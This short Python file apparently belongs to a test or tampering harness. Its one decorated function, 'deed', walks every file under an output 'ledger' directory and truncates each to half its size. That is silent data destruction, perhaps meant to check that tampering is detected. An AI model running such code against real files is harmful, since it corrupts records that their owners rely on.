import os

from arms import P, attempt


@attempt
def deed():
    place = P["out"] + "/ledger"
    for folder, _, names in os.walk(place):
        for name in names:
            path = os.path.join(folder, name)
            size = os.stat(path).st_size
            with open(path, "r+b") as file:
                file.truncate(size // 2)
    return False
